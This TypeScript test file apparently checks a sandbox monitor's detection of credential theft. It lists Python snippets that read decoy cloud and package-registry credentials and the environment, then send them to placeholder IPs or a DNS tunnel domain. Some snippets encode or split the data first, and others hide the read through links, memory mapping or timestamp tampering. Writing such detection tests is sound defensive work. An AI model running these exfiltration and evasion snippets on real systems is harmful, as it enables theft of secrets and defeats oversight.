import type { SandboxRun } from "../../src/model/sandbox-run.ts";
import { all, printed, told, type WitnessAttack } from "./witness-attacks.ts";

const CREDENTIALS = 'open(os.path.expanduser("~/.aws/credentials"), "rb").read()';
const CHAIN = "a chain from reading to sending";

/** The secret was found on its way, in this form. */
function left(place: string, form: string) {
  return (run: SandboxRun) =>
    told(run, "network.send", place, `~/.aws/credentials (${form}`) &&
    told(run, "read.credential", "~/.aws/credentials");
}

function decoyRead(run: SandboxRun): boolean {
  return told(run, "read.credential", "~/.aws/credentials");
}

/** Secrets: how a program may read and hide them. */
export const SECRET_ATTACKS: readonly WitnessAttack[] = [
  ...(
    [
      ["as it is", "secret", "plain"],
      ["in base64", "base64.b64encode(b'?' + secret)", "base64"],
      ["as hexadecimal digits", "secret.hex().encode()", "hex"],
      ["backwards", "secret[::-1]", "reversed"],
      ["compressed", "gzip.compress(secret)", "gzip"],
    ] as const
  ).map(([how, expression, form]): WitnessAttack => ({
    attack: `sends a decoy's secret ${how}`,
    expected: CHAIN,
    program: `secret = ${CREDENTIALS}
tcp(("203.0.113.20", 80), ${expression})`,
    holds: left("203.0.113.20", form),
  })),
  {
    attack: "sends it a byte at a time",
    expected: CHAIN,
    program: `s = socket.create_connection(("203.0.113.21", 80)); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for byte in ${CREDENTIALS}: s.send(bytes([byte]))
s.close()`,
    holds: left("203.0.113.21", "plain"),
  },
  {
    attack: "sends it over many connections",
    expected: CHAIN,
    program: `secret = ${CREDENTIALS}
for at in range(0, len(secret), 9): tcp(("203.0.113.22", 80), secret[at:at + 9])`,
    holds: left("203.0.113.22", "plain"),
  },
  {
    attack: "sends it as labels of names",
    expected: CHAIN,
    program: `secret = base64.b32encode(${CREDENTIALS}).decode().rstrip("=").lower()
for at in range(0, len(secret), 40):
    try: socket.gethostbyname(secret[at:at + 40] + ".tunnel.example")
    except OSError: pass`,
    holds: (run) => told(run, "network.send", "tunnel.example (DNS)", "~/.aws/credentials (base32"),
  },
  {
    attack: "encrypts it before sending",
    expected: CHAIN,
    program: `tcp(("203.0.113.23", 443), bytes(byte ^ 0x5a for byte in ${CREDENTIALS}))`,
    holds: (run) =>
      decoyRead(run) &&
      run.behaviours.every(({ process }) => process === run.behaviours[0]?.process),
  },
  {
    attack: "reads it through a symbolic link",
    expected: "seen as read",
    program: `os.symlink(os.path.expanduser("~/.aws/credentials"), "/tmp/innocent"); open("/tmp/innocent").read()`,
    holds: decoyRead,
  },
  {
    attack: "reads it through a hard link",
    expected: "denied by the kernel, or seen as read",
    program: `try: os.link(os.path.expanduser("~/.aws/credentials"), os.path.expanduser("~/notes")); open(os.path.expanduser("~/notes")).read()
except PermissionError: print("denied")`,
    holds: (run) => printed("denied")(run) || decoyRead(run),
  },
  {
    attack: "maps it into memory, or has the kernel copy it",
    expected: "seen as read",
    program: `import mmap
with open(os.path.expanduser("~/.aws/credentials"), "rb") as f: mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)[:10]
with open(os.path.expanduser("~/.kube/config"), "rb") as f, open("/tmp/copy", "wb") as o: os.sendfile(o.fileno(), f.fileno(), 0, 1000)
with open(os.path.expanduser("~/.pypirc"), "rb") as f, open("/tmp/copy2", "wb") as o:
    try: os.copy_file_range(f.fileno(), o.fileno(), 1000)
    except OSError: f.read()`,
    holds: all(
      decoyRead,
      (run) => told(run, "read.credential", "~/.kube/config"),
      (run) => told(run, "read.credential", "~/.pypirc"),
    ),
  },
  {
    attack: "moves or removes it after reading",
    expected: "seen as read",
    program: `p = os.path.expanduser("~/.aws/credentials"); open(p).read(); os.rename(p, "/home/sandbox/x"); os.remove("/home/sandbox/x")`,
    holds: decoyRead,
  },
  {
    attack: "sets the time of reading back, or reads without leaving one",
    expected: "denied, and seen as read",
    program: `p = os.path.expanduser("~/.aws/credentials")
for act in (lambda: os.utime(p, ns=(1, 1)), lambda: os.utime(p), lambda: os.open(p, os.O_RDONLY | os.O_NOATIME), lambda: os.chmod(p, 0o600), lambda: open(p, "w")):
    try: act(); print("done")
    except PermissionError: print("denied")
open(p).read()`,
    holds: all(decoyRead, (run) => !printed("done")(run)),
  },
  {
    attack: "prints it",
    expected: "seen as read and printed",
    program: `print(base64.b64encode(${CREDENTIALS}).decode())`,
    holds: all(decoyRead, (run) => told(run, "write.log", "~/.aws/credentials")),
  },
  {
    attack: "sends the whole environment",
    expected: CHAIN,
    program: `tcp(("203.0.113.24", 80), repr(dict(os.environ)).encode())`,
    holds: (run) =>
      told(run, "read.credential", "$DEPLOY_TOKEN") &&
      told(run, "network.send", "203.0.113.24", "$DEPLOY_TOKEN"),
  },
];
